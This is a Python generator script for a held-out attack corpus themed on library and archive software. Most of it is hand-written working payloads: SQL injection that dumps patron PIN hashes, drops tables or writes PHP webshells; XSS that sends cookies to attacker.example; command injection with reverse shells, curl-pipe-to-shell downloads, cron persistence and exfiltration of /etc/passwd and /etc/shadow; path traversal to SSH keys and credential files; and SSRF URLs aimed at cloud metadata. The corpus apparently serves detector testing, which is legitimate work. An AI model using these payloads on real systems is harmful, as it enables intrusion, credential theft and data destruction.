"""Attack held-out corpus for the library & archives theme (ids ha51-NNNNN).

Each value is a working payload for a vulnerable library / archives application
that puts the value where its class says:

  class = "<context>-<technique>[+<encoding>]"

Contexts are the fields of such a system: the catalogue search box (search),
call numbers (callno), MARC field notes (marc), finding-aid container lines
(findingaid), EAD / MARCXML / TEI imports (ead, marcxml, tei), processing and
staff notes (note), patron requests and profile fields (patron, login, email),
ILL notes (ill), citations (bibtex, ris, citation), identifier / link URLs (doi,
isbn, openurl, ezproxy), IIIF image ids and manifests (iiif, manifest), cover
image URLs (cover), digitisation file paths (path), OCR language (ocr), Z39.50
targets (z3950), OAI-PMH harvesting (oai), sort / report expressions (sort,
report), CSV exports and logs / headers (header, log, redirect, download).
"plain-" classes carry a bare payload with no domain text.

Every payload was written by hand for this corpus from an understanding of the
technique; none was copied from a public payload list.  Attacker hosts are
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; all
secrets are fake.  The only computed values are small templates: a hand-written
payload core appended to hand-written domain text, or a hand-written payload
passed through one encoder (URL once / twice, HTML decimal entities, JSON
unicode escapes).

Standard library only.  Output is byte-identical on every run.
"""

import importlib.util
import json
import random
import re
import sys
import urllib.parse
from pathlib import Path

SEED = 5102
PREFIX = "ha51"
HERE = Path(__file__).resolve().parent
OUT = HERE / "attacks.jsonl"
CLASS_RE = re.compile(r"^[a-z0-9_]+-[a-z0-9_]+(\+[a-z0-9_]+)?$")

# ---------------------------------------------------------------------------
# encoders used by the templates
# ---------------------------------------------------------------------------


def enc_urlenc(v):
    return urllib.parse.quote(v, safe="")


def enc_urlenc2(v):
    return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")


def enc_html_entity(v):
    return "".join(f"&#{ord(c)};" if c in "<>\"'()=:/" else c for c in v)


def enc_unicode_escape(v):
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'&" else c for c in v)


ENCODERS = {
    "urlenc": enc_urlenc,
    "urlenc2": enc_urlenc2,
    "html_entity": enc_html_entity,
    "unicode_escape": enc_unicode_escape,
}

# ---------------------------------------------------------------------------
# SQL injection (value concatenated into SQL)
# ---------------------------------------------------------------------------
SQLI = [
    ("search-union_select", "ti:whale' UNION SELECT card_number, pin_hash FROM patrons-- -"),
    ("search-union_null", "leviathan%' UNION ALL SELECT NULL, login, pin_hash, NULL FROM staff_users-- -"),
    ("search-boolean_blind", "au:melville' AND SUBSTRING((SELECT pin_hash FROM staff_users WHERE login='admin'),1,1)='a' AND '%'='"),
    ("search-time_blind", "moby' OR SLEEP(6) OR '"),
    ("search-time_blind_pg", "whale'||(SELECT 'x' FROM pg_sleep(6))||'"),
    ("search-stacked_waitfor", "nantucket'; WAITFOR DELAY '0:0:7'--"),
    ("search-stacked_drop", "Dostoïevski'; DROP TABLE holds;--"),
    ("search-error_extractvalue", "ti:sleep' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    ("search-error_cast", "kw:shell' AND 1=CAST((SELECT string_agg(email,',') FROM patrons) AS int)--"),
    ("callno-tautology", "QA76.73 .P98' OR '1'='1"),
    ("callno-union_schema", "PR6019.O9' UNION SELECT table_name, column_name FROM information_schema.columns-- -"),
    ("marc-insert_breakout", "245 10 $a Moby-Dick'); UPDATE staff_users SET role='admin' WHERE login='jdoe';--"),
    ("marc-concat_exfil", "650 _0 $a Whaling' || (SELECT pin_hash FROM staff_users WHERE id=1) || '"),
    ("patron-numeric_tautology", "1042 OR 1=1"),
    ("patron-numeric_union", "0 UNION SELECT card_number, pin_hash, email FROM patrons"),
    ("sort-orderby_case", "due_date, (CASE WHEN (SELECT substr(pin_hash,1,1) FROM staff_users WHERE id=1)='7' THEN 1 ELSE 1/0 END)"),
    ("sort-orderby_sleep", "title ASC, IF((SELECT COUNT(*) FROM staff_users)>3,SLEEP(4),0)"),
    ("search-union_sqlite_master", "folio' UNION SELECT name, sql FROM sqlite_master--"),
    ("search-union_oracle", "rawlinson' UNION SELECT username, password FROM dba_users--"),
    ("callno-time_oracle", "MS Douce 134' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("ill-xp_cmdshell", "2024-0412'; EXEC master..xp_cmdshell 'ping -n 8 203.0.113.9';--"),
    ("ill-oob_xp_dirtree", "ZCU'; EXEC master.dbo.xp_dirtree '\\\\sql.attacker.example\\x';--"),
    ("search-load_file", "whale' UNION SELECT LOAD_FILE('/etc/passwd'), 2-- -"),
    ("search-into_outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/covers/c.php'-- -"),
    ("patron-copy_program", "Ngũgĩ'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.5/x | sh';--"),
    ("search-union+comment_space", "'/**/UNION/**/SELECT/**/login,pin_hash/**/FROM/**/staff_users#"),
    ("search-union+case_mix", "melville' uNiOn SeLeCt pin_hash, email fRoM patrons-- -"),
    ("search-union+versioned_comment", "whale' /*!50000UNION*/ /*!50000SELECT*/ login, pin_hash FROM staff_users-- -"),
    ("search-time_blind+no_space", "moby'or(sleep(5))or'"),
    ("callno-boolean_ascii", "QA76.9.D3' AND ASCII(SUBSTR((SELECT pin_hash FROM patrons WHERE card_number='21234000012345'),1,1))>52-- -"),
    ("isbn-boolean+hex_literal", "9780140449136 AND (SELECT COUNT(*) FROM staff_users WHERE role=0x61646d696e)>0"),
    ("search-like_blind", "au:tolkien' AND (SELECT pin_hash FROM staff_users WHERE login='admin') LIKE 'a%' AND '%'='"),
    ("bibtex-stacked_delete", "@book{x, title = {Whale'); DELETE FROM loans WHERE patron_id=77;--}}"),
    ("ris-union", "TY  - BOOK\nTI  - Sleep' UNION SELECT pin_hash, NULL FROM patrons--\nER  - "),
    ("isbn-time_pg", "9780140449136' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("ill-tautology", "2024-0412' OR '1'='1'--"),
    ("findingaid-paren_tautology", "14) OR (1=1"),
    ("patron-insert_multirow", "Flann', 'hold'), ('eve', (SELECT pin_hash FROM staff_users LIMIT 1))-- -"),
    ("callno-stacked_insert", "QA76.9.D3'; INSERT INTO staff_users(login, pin_hash, role) VALUES('guest2','x','admin');--"),
    ("search-error_floor_rand", "x' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT pin_hash FROM patrons LIMIT 1), FLOOR(RAND(0)*2)) k FROM information_schema.tables GROUP BY k) t)-- -"),
    ("search-error_convert", "ti:ulysses' AND 1=CONVERT(int,(SELECT TOP 1 login FROM staff_users))--"),
    ("sort-orderby_subselect", "(SELECT CASE WHEN current_user='postgres' THEN title ELSE author END)"),
    ("search-having_enum", "joyce' HAVING 1=1--"),
    ("search-groupby_enum", "joyce' GROUP BY holds.id, holds.patron_id HAVING 1=1--"),
    ("limit-procedure_analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("search-backslash_escape", "\\' OR 1=1-- -"),
    ("search-tautology+gbk_multibyte", "%bf%27 OR 1=1-- -"),
    ("patron-sqlite_attach", "x'; ATTACH DATABASE '/var/www/html/covers/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[\"c\"]); ?>');--"),
    ("search-benchmark", "whale' OR BENCHMARK(8000000,SHA1('x'))-- -"),
    ("note-stacked_pg_case", "Box 3'; SELECT CASE WHEN (SELECT length(pin_hash) FROM staff_users LIMIT 1)>20 THEN pg_sleep(5) ELSE pg_sleep(0) END;--"),
    ("search-oob_load_file", "x' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pin_hash FROM patrons LIMIT 1),'.oob.attacker.example\\\\a')), 2-- -"),
    ("doi-oob_utl_http", "10.1000/x' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("callno-error_ctxsys", "MS Ashmole 1504' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("findingaid-union", "Boîte 7, dossier 3' AND 1=2 UNION SELECT login, pin_hash, NULL FROM staff_users-- -"),
    ("search-dquote_tautology", 'whale" OR ""="'),
    ("search-paren_tautology", "whale') OR ('x'='x"),
    ("search-field_union", "su:\"Whaling\" AND ti:\"x' UNION SELECT login||':'||pin_hash, NULL FROM staff_users--\""),
    ("search-error_cast_pg", "x' AND (SELECT pin_hash FROM staff_users LIMIT 1)::int=1--"),
    ("marc-update_set_column", "500 ## $a Note', opac_note=(SELECT group_concat(login,':',pin_hash) FROM staff_users) WHERE id=1-- -"),
    ("login-comment_truncation", "librarian'-- -"),
    ("patron-dblink_oob", "Okafor'; SELECT dblink_connect('host='||(SELECT pin_hash FROM staff_users LIMIT 1)||'.oob.attacker.example user=x dbname=x');--"),
    ("search-regexp_blind", "au:brontë' AND (SELECT pin_hash FROM staff_users LIMIT 1) REGEXP '^[a-f]' AND '1"),
    ("oai-union", "oai:archive.example.edu:ead/x' UNION SELECT login, pin_hash FROM staff_users-- -"),
    ("sort-stacked_drop", "title; DROP TABLE loans--"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-time_blind", "1' AND SLEEP(3)#"),
    ("plain-stacked", "1; DROP TABLE patrons"),
    ("plain-comment_truncation", "admin'--"),
    ("plain-dquote_tautology", '") OR ("a"="a'),
    ("plain-error_updatexml", "' AND updatexml(1,concat(0x7e,user()),1)-- -"),
]

SQLI_PREFIXES = [
    ("search", "ti:(whale OR leviathan) AND au:melville"),
    ("search", 'su:"Whaling -- History"'),
    ("callno", "QA76.73.P98 L88 2019"),
    ("callno", "MS Rawl. D. 1234 fol. 12r"),
    ("findingaid", "Box 14, Folder 2"),
    ("ill", "ILL #2024-0815"),
    ("patron", "Søren Kierkegaard-Hansen"),
]
SQLI_CORES = [
    ("union_select", "' UNION SELECT login, pin_hash FROM staff_users-- -"),
    ("time_blind", "' AND SLEEP(5)-- -"),
    ("tautology", "' OR 'a'='a"),
    ("stacked_delete", "'; DELETE FROM holds;--"),
    ("error_extractvalue", "' AND extractvalue(1,concat(0x7e,(SELECT pin_hash FROM staff_users LIMIT 1)))-- -"),
]
SQLI_ENCODABLE = [
    ("search-union_select", "whale' UNION SELECT login, pin_hash FROM staff_users-- -"),
    ("search-tautology", "melville' OR '1'='1"),
    ("callno-time_blind", "QA76.73' AND SLEEP(5)-- -"),
]

# ---------------------------------------------------------------------------
# XSS (value rendered into HTML / JS without escaping)
# ---------------------------------------------------------------------------
XSS = [
    ("search-script_tag", "Les Misérables <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("search-img_onerror", 'ti:"<img src=x onerror=alert(document.domain)>"'),
    ("search-attr_breakout", 'melville" autofocus onfocus="alert(document.domain)'),
    ("search-attr_breakout_squote", "leviathan' onmouseover='fetch(\"//attacker.example/?\"+document.cookie)"),
    ("search-svg_onload", "<svg/onload=location='//attacker.example/?c='+document.cookie>"),
    ("search-js_string_breakout", "';fetch('//attacker.example/k?'+localStorage.getItem('token'));//"),
    ("search-script_close", "</script><script>alert(document.cookie)</script>"),
    ("doi-javascript_uri", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("doi-javascript_uri+case_mix", "JaVaScRiPt:alert(document.domain)"),
    ("doi-javascript_uri+tab_entity", "java&#x09;script:alert(document.domain)"),
    ("doi-javascript_uri+html_entity", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie)"),
    ("url-data_uri_base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("note-details_ontoggle", "Box 3 <details open ontoggle=alert(document.domain)>"),
    ("note-iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;"></iframe>'),
    ("marc-img_onerror", "245 10 $a Moby-Dick <img src=x onerror=alert(1)> / $c Melville."),
    ("marc-javascript_uri", "856 40 $u javascript:alert(document.cookie) $z Full text"),
    ("findingaid-ead_attr_handler", '<emph render="italic" onmouseover="alert(document.domain)">Diaries</emph>, 1912-1914'),
    ("findingaid-ead_extref_js", '<extref xlink:href="javascript:alert(document.domain)">see digitised copy</extref>'),
    ("bibtex-script_src", "@book{x, title = {Whale<script src=//attacker.example/x.js></script>}, year = {1851}}"),
    ("ris-svg_animate", "TY  - BOOK\nTI  - <svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>\nER  - "),
    ("patron-img_beacon", "Hold please <img src=//attacker.example/p.gif onerror=\"new Image().src='//attacker.example/?'+document.cookie\">"),
    ("search-js_template_literal", "${alert(document.domain)}"),
    ("search-angular_csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("note-vue_csti", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("note-style_import", "<style>@import'//attacker.example/x.css';</style>"),
    ("note-noscript_mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("ill-textarea_breakout", "</textarea><script>alert(document.cookie)</script>"),
    ("search-title_breakout", "</title><svg onload=alert(document.domain)>"),
    ("iiif-manifest_label", "Folio 12r <img src=x onerror=alert(document.domain)>"),
    ("citation-anchor_onclick", '<a href="https://doi.org/10.1000/x" onclick="alert(document.cookie)">full text</a>'),
    ("note-object_data", '<object data="javascript:alert(document.domain)"></object>'),
    ("note-embed_svg_data", "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"),
    ("note-video_source", '<video><source onerror="alert(document.domain)"></video>'),
    ("search-input_autofocus", '"><input autofocus onfocus=alert(document.cookie)>'),
    ("note-marquee_onstart", "<marquee onstart=alert(1)>New acquisitions</marquee>"),
    ("patron-form_injection", '<form action="https://attacker.example/login"><input name=pin placeholder="Re-enter your library PIN"><button>Continue</button></form>'),
    ("note-meta_refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/">'),
    ("note-base_hijack", '<base href="https://attacker.example/">'),
    ("search-img_onerror+html_entity", "&lt;img src=x onerror=alert(1)&gt;"),
    ("manifest-img_onerror+unicode_escape", "\\u003cimg src=x onerror=alert(document.domain)\\u003e"),
    ("search-img_onerror+js_unicode_ident", "<img src=x onerror=\\u0061lert(document.domain)>"),
    ("search-img_onerror+base64_eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-svg_script+html_entity", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("doi-anchor_javascript+newline_entity", '<a href="jav&#x0A;ascript:alert(1)">DOI</a>'),
    ("note-iframe_javascript", '<iframe src="javascript:alert(parent.document.cookie)"></iframe>'),
    ("iiif-svg_xlink_js", '<svg><a xlink:href="javascript:alert(document.domain)"><text x="20" y="20">Open scan</text></a></svg>'),
    ("search-dynamic_import", "<img src=\"x\" onerror=\"import('//attacker.example/m.js')\">"),
    ("search-backtick_call", "<img src=x onerror=alert`1`>"),
    ("search-string_concat", "<svg onload=setTimeout('al'+'ert(document.domain)')>"),
    ("cover-attr_breakout", 'x.jpg" onerror="alert(document.cookie)'),
    ("cover-attr_breakout_onload", "https://covers.example.org/9780140449136.jpg\" onload=\"fetch('//attacker.example/?'+document.cookie)"),
    ("search-js_numeric_context", "'-alert(document.domain)-'"),
    ("search-js_backslash_escape", "\\';alert(document.domain)//"),
    ("note-link_stylesheet", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("note-markdown_js_link", "[view scan](javascript:alert(document.cookie))"),
    ("note-markdown_img_attr", '![cover](x" onerror="alert(document.domain))'),
    ("note-custom_element", "<x-hold onclick=alert(document.domain)>click here to confirm your hold</x-hold>"),
    ("marc-script_redirect", "520 ## $a Summary <script>document.location='https://attacker.example/s?c='+document.cookie</script>"),
    ("ill-send_beacon", "<img src=1 onerror=\"navigator.sendBeacon('//attacker.example/b',document.body.innerHTML)\">"),
    ("patron-iframe_overlay", "<iframe src=//attacker.example/fake-login width=100% height=900 frameborder=0></iframe>"),
    ("note-foreignobject_srcdoc", '<svg><foreignObject><iframe srcdoc="<script>alert(document.domain)</script>"></iframe></foreignObject></svg>'),
    ("search-json_script_breakout", '"}</script><script>alert(document.domain)</script>'),
    ("search-svg_onload+tab_whitespace", "<svg\tonload=alert(document.domain)>"),
    ("callno-attr_unquoted", "QA76 onmouseover=alert(document.domain)"),
    ("citation-audio_onerror", "Melville (1851) <audio src=x onerror=alert(document.domain)>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr_breakout", '"><script>alert(1)</script>'),
    ("plain-script_tag+case_mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("plain-svg_onload", "<svg onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(1)"),
    ("plain-body_onload", "<body onload=alert(1)>"),
]

XSS_PREFIXES = [
    ("search", "ti:(whale OR leviathan) "),
    ("marc", "245 10 $a Moby-Dick / $c Melville. "),
    ("findingaid", "Box 5, f. 3: Letters, H–K "),
    ("patron", "Please hold 'Drop City' "),
    ("ill", "ILL #2024-0412 lender note: "),
]
XSS_CORES = [
    ("img_onerror", "<img src=x onerror=alert(document.domain)>"),
    ("svg_onload", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
    ("script_tag", "<script src=https://attacker.example/h.js></script>"),
    ("details_ontoggle", "<details open ontoggle=alert(document.cookie)>"),
]
XSS_ENCODABLE = [
    ("search-img_onerror", "<img src=x onerror=alert(document.domain)>"),
    ("search-attr_breakout", '"><svg onload=alert(document.cookie)>'),
    ("note-script_tag", "<script>alert(document.domain)</script>"),
]

# ---------------------------------------------------------------------------
# OS command injection (value placed in a shell command line)
# ---------------------------------------------------------------------------
CMDI = [
    ("path-semicolon", "MS_Douce_134_f012r.tif; curl -s http://203.0.113.7/s.sh | sh"),
    ("path-subshell", "f023v_$(id>/tmp/.x).tif"),
    ("path-backticks", "scan_`wget -q -O- attacker.example/p|bash`.tif"),
    ("path-and_chain", "0001.tif && nc 203.0.113.12 4444 -e /bin/sh"),
    ("path-or_chain", "missing.tif || rm -rf /var/lib/iiif/cache"),
    ("path-newline", "0042.jp2\ncat /etc/shadow > /var/www/html/s.txt"),
    ("path-pipe_mail", "page.tif | mail -s loot thief@attacker.example < /etc/passwd"),
    ("path-ifs_separator", "x.tif;cat${IFS}/etc/passwd"),
    ("path-brace_expansion", "x.tif;{cat,/etc/passwd}"),
    ("path-squote_breakout", "0001.tif'; touch /tmp/pwn; echo '"),
    ("path-dquote_breakout", '0001.tif"; curl attacker.example/$(whoami); echo "'),
    ("path-dquote_subshell", 'Schloß_Ansicht "$(curl -s http://203.0.113.7/x|sh)".tif'),
    ("iiif-subshell_sleep", "ms-douce-134$(sleep 9)"),
    ("z3950-reverse_shell", "z3950.example.org:210; bash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("z3950-ping_chain", "198.51.100.10 -c 1; id"),
    ("path-win_ampersand", "scan.tif & whoami > C:\\inetpub\\wwwroot\\w.txt"),
    ("path-win_powershell", 'box14.pdf | powershell -nop -c "iwr http://203.0.113.8/a.ps1|iex"'),
    ("path-win_envvar", "x.tif & type %SystemRoot%\\win.ini"),
    ("path-win_chain+caret_obfuscation", "x.tif & w^h^o^a^m^i"),
    ("url-wget_output_arg", "-O /var/www/html/c.php http://attacker.example/c.txt"),
    ("path-tar_checkpoint_arg", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("path-find_exec_arg", "-exec sh -c 'id > /tmp/o' ;"),
    ("path-rsync_shell_arg", "-e \"sh -c 'curl -s attacker.example/r|sh'\" x:/"),
    ("url-git_upload_pack", "--upload-pack=touch /tmp/pwn"),
    ("host-ssh_proxycommand", "-oProxyCommand=curl attacker.example/x|sh"),
    ("email-sendmail_args", "reader@example.org -X /var/www/html/log.php -OQueueDirectory=/tmp"),
    ("path-zip_tt_arg", "export.zip -T -TT 'sh -c id #'"),
    ("path-printf+hex_escape", "x.tif;$(printf '\\x63\\x61\\x74 /etc/passwd')"),
    ("path-decode_pipe+base64", "x.tif;echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcyB8IHNo|base64 -d|sh"),
    ("path-semicolon+quote_split", "x.tif;c''at /e't'c/pa''ss''wd"),
    ("path-semicolon+glob_wildcard", "x.tif;/???/?at /???/p?ss??"),
    ("path-time_sleep", "0001.tif;sleep 10;"),
    ("path-time_ping", "0001.tif| ping -c 10 127.0.0.1"),
    ("path-dns_exfil", "0001.tif$(nslookup $(whoami).oob.attacker.example)"),
    ("path-curl_post_file", "0001.tif;curl -d @/etc/passwd http://203.0.113.7/u"),
    ("path-cron_persist", "0001.tif;echo '* * * * * root curl -s attacker.example/c|sh' >> /etc/crontab"),
    ("ocr-python_revshell", "eng; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.44\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("ocr-lang_semicolon", "eng+deu; id"),
    ("ocr-php_revshell", "deu; php -r '$s=fsockopen(\"203.0.113.44\",9002);exec(\"sh <&3 >&3 2>&3\");'"),
    ("z3950-busybox_nc", "z3950.example.org:210;busybox nc 203.0.113.44 9003 -e sh"),
    ("path-fifo_shell", "x.tif; rm -f /tmp/f; mkfifo /tmp/f; sh </tmp/f 2>&1 | nc 203.0.113.44 9004 >/tmp/f"),
    ("callno-label_subshell", "QA76.73.P98 $(curl attacker.example/l|sh)"),
    ("search-grep_quote_breakout", "leviathan' /etc/shadow #"),
    ("ill-backticks", "ZCU`id`"),
    ("path-powershell_stmt", "x.tif; Invoke-WebRequest -Uri http://203.0.113.8/p -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe"),
    ("path-powershell_subexpr", "$(Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a'))"),
    ("header-shellshock", "() { :; }; /bin/bash -c 'curl attacker.example/sh|sh'"),
    ("path-backticks_sleep", "0042`sleep 8`.jp2"),
    ("path-var_substring_slash", "x.tif;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("path-tab_separator", "x.tif;cat\t/etc/passwd"),
    ("path-var_indirection", "x.tif;p=/etc/passwd;cat $p"),
    ("path-herestring_reversed", "x.tif;rev<<<'dwssap/cte/ tac'|sh"),
    ("path-curl_form_upload", "x.tif || curl -F f=@/var/lib/library/config.yml http://203.0.113.7/up"),
    ("path-win_certutil", "x.tif &certutil -urlcache -f http://203.0.113.8/p.exe %TEMP%\\p.exe&%TEMP%\\p.exe"),
    ("path-wget_post_file", "x.tif;wget --post-file=/etc/shadow http://attacker.example/"),
    ("iiif-region_subshell", "0,0,512,512$(id)"),
    ("oai-prefix_subshell", "oai_dc$(curl -s attacker.example/o|sh)"),
    ("path-webshell_drop+base64", "x.tif;echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==|base64 -d>/var/www/html/covers/s.php"),
    ("marc-filename_pipe", "records_2024.mrc|id"),
    ("ill-newline+urlenc", "ZCU%0aid"),
    ("path-background_loop", "x.tif & nohup sh -c 'while true; do curl -s attacker.example/b|sh; sleep 60; done' &"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(id)"),
    ("plain-backticks", "`uname -a`"),
    ("plain-and_chain", "&& cat /etc/passwd"),
    ("plain-time_sleep", "; sleep 5"),
    ("plain-newline", "\nid"),
]

CMDI_PREFIXES = [
    ("path", "MS_Rawl_D_1234_f012r.tif"),
    ("path", "box14_folder03_item07.pdf"),
    ("iiif", "cotton-nero-a-x%2Ff094r"),
    ("ocr", "eng+lat"),
]
CMDI_CORES = [
    ("semicolon", ";curl -s http://203.0.113.7/i|sh"),
    ("subshell", "$(wget -qO- attacker.example/j|sh)"),
    ("and_chain", " && id > /var/www/html/id.txt"),
    ("backticks", "`nc -e /bin/sh 203.0.113.44 9005`"),
]
CMDI_ENCODABLE = [
    ("path-semicolon", "x.tif;cat /etc/passwd"),
    ("path-subshell", "x.tif$(id)"),
]

# ---------------------------------------------------------------------------
# Path traversal / local file read (value appended to a base directory)
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("path-dotdot", "../../../../etc/passwd"),
    ("path-dotdot_prefixed", "Ötztal_Karte_1890/../../../../../etc/shadow"),
    ("path-dotdot_backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("path-dotdot_backslash_webconfig", "scans\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("path-absolute", "/var/lib/library/config/database.yml"),
    ("path-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
    ("path-dotdot+urlenc2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("path-dotdot+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("path-nested_strip", "....//....//....//etc/passwd"),
    ("path-nested_strip_dot", "..././..././..././etc/passwd"),
    ("path-dotdot+nullbyte", "../../../../etc/passwd%00.tif"),
    ("iiif-encoded_slash_id+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd/full/max/0/default.jpg"),
    ("iiif-resolver_dotdot+urlenc", "ms-douce-134%2F..%2F..%2F..%2Fopt%2Fcantaloupe%2Fcantaloupe.properties/info.json"),
    ("path-proc_environ", "/proc/self/environ"),
    ("path-proc_cmdline", "../../../../proc/self/cmdline"),
    ("path-ssh_key", "../../../../../home/digi/.ssh/id_rsa"),
    ("path-dotenv", "../../.env"),
    ("path-log_file", "../../../../var/log/nginx/access.log"),
    ("path-win_absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("path-win_ntuser", "..\\..\\..\\..\\Users\\Administrator\\NTUSER.DAT"),
    ("path-webinf", "../../WEB-INF/web.xml"),
    ("path-tomcat_semicolon", "..;/..;/WEB-INF/classes/application.properties"),
    ("bag-zipslip", "data/../../../../etc/cron.d/evil"),
    ("upload-zipslip", "../../../../var/www/html/covers/shell.php"),
    ("path-dotdot+iis_unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("path-dotdot+urlenc_backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("path-mixed_dots+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("path-dotdot+overlong_backslash", "..%c1%9c..%c1%9c..%c1%9cwindows/win.ini"),
    ("path-dotdot+fullwidth_nfkc", "．．／．．／．．／．．／etc／passwd"),
    ("path-iiif_root_escape", "/var/lib/iiif/images/../../../../root/.bash_history"),
    ("export-template_name", "../../../../../../usr/local/etc/php/php.ini"),
    ("export-app_settings", "../../../app/settings.py"),
    ("path-pgpass", "../../../var/lib/postgresql/.pgpass"),
    ("path-double_backslash", "..\\\\..\\\\..\\\\..\\\\windows\\\\win.ini"),
    ("path-root_boot_ini", "\\..\\..\\..\\boot.ini"),
    ("path-prefix_check_bypass", "/mnt/digitisation/../../etc/shadow"),
    ("path-prefix_aws_creds", "/mnt/digitisation/2024/../../../root/.aws/credentials"),
    ("path-fragment_suffix", "../../../../../etc/passwd#.tif"),
    ("path-query_suffix", "../../../../etc/passwd?.jp2"),
    ("path-double_slash", "..//..//..//..//etc//passwd"),
    ("path-dot_segments", "/./././../../../etc/passwd"),
    ("path-after_file", "ms-rawl-d-1234/f012r.tif/../../../../../../etc/group"),
    ("path-tomcat_users", "..\\..\\..\\..\\opt\\tomcat\\conf\\tomcat-users.xml"),
    ("path-php_filter_wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("bibtex-latex_input", "@misc{x, title = {\\input{/etc/passwd}}}"),
    ("cover-dotdot", "covers/../../../../etc/hostname"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot_win", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-absolute_hosts", "/etc/hosts"),
]

TRAV_PREFIXES = [
    ("path", "MS_Douce_134/"),
    ("path", "2024/Hs_3081/tiff/"),
    ("iiif", "ms-rawl-d-1234/"),
]
TRAV_CORES = [
    ("dotdot", "../../../../../../etc/passwd"),
    ("dotdot_backslash", "..\\..\\..\\..\\..\\windows\\win.ini"),
]
TRAV_ENCODABLE = [
    ("path-dotdot", "../../../../../etc/passwd"),
    ("iiif-dotdot", "../../../../var/lib/library/config/secrets.yml"),
]

# ---------------------------------------------------------------------------
# SSRF (value is a URL the server fetches)
# ---------------------------------------------------------------------------
SSRF = [
    ("iiif-aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("iiif-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("manifest-azure_metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("cover-localhost_admin", "http://127.0.0.1:8080/admin/patrons/export.csv"),
    ("cover-metadata+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("cover-metadata+hex_ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("cover-metadata+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("cover-loopback+short_ip", "http://127.1:6379/"),
    ("iiif-loopback_ipv6", "http://[::1]:8983/solr/admin/cores?action=STATUS"),
    ("iiif-metadata+ipv4_mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("cover-zero_ip", "http://0:9200/_cat/indices"),
    ("manifest-dns_rebind", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
    ("manifest-open_redirect", "https://attacker.example/redirect?to=http://127.0.0.1:2375/containers/json"),
    ("cover-userinfo_confusion", "http://covers.example.org@127.0.0.1:5984/_all_dbs"),
    ("cover-fragment_confusion", "http://127.0.0.1:8983#@covers.example.org/x.jpg"),
